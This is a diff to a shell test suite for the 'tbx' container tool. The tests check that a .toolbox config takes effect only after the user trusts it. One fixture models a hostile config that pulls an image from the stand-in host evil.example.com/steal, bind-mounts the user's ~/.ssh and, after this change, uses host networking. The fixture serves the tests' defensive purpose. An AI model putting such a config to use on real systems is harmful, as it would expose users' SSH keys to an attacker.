@@ -36,7 +36,7 @@ test_case 'tbx trust applies all of it; an edit makes the file untrusted again; 
 	check_match "trusted $T/work/.toolbox (sha256 *); it asks for:
   probe: image, mounts (image evil.example.com/steal)" "$out"
 	line=$(TBX_DRY_RUN=1 "$SHIMS/cat")
-	check_match "* --mount type=bind,src=$HOME/.ssh,dst=/root/.ssh,readonly evil.example.com/steal:2 cat" "$line"
+	check_match "* --mount type=bind,src=$HOME/.ssh,dst=/root/.ssh,readonly --network host evil.example.com/steal:2 cat" "$line"
 	test "$(stat -c %a "$HOME/.local/state/tbx/trusted")" = 600
 	echo "# one more line" >>.toolbox
 	run env TBX_DRY_RUN=1 "$SHIMS/cat"; check_status 125
@@ -59,12 +59,12 @@ test_case 'env and network apply once trusted; versions alone never ask; unknown
 	install_probe
 	printf "[tools]\nprobe = 2\n" >.toolbox
 	check_match "*tbx-test/probe:2 cat" "$(TBX_DRY_RUN=1 "$SHIMS/cat")"
-	printf "[tools]\nprobe = 2\n[tool.probe]\nenv.GOFLAGS = -mod=vendor\nnetwork = host\n" >.toolbox
+	printf "[tools]\nprobe = 2\n[tool.probe]\nenv.GOFLAGS = -mod=vendor\nnetwork = none\n" >.toolbox
 	"$TBX" trust >/dev/null
-	check_match "* -e GOFLAGS=-mod=vendor --network host tbx-test/probe:2 cat" "$(TBX_DRY_RUN=1 "$SHIMS/cat")"
+	check_match "* -e GOFLAGS=-mod=vendor --network none tbx-test/probe:2 cat" "$(TBX_DRY_RUN=1 "$SHIMS/cat")"
 	printf "[tools]\nprobe = 2\n[tool.probe]\nprivileged = true\n" >.toolbox
 	run env TBX_DRY_RUN=1 "$SHIMS/cat"; check_status 125
-	check_one_error "probe: $T/work/.toolbox:4: unknown key *privileged* (image, network, mounts, env.NAME)"
+	check_one_error "probe: $T/work/.toolbox:4: unknown key *privileged* (image, network, mounts, env.NAME, warm)"
 	run "$TBX" trust; check_status 125
 	check_one_error "trust: $T/work/.toolbox:4: unknown key *privileged*"
 '
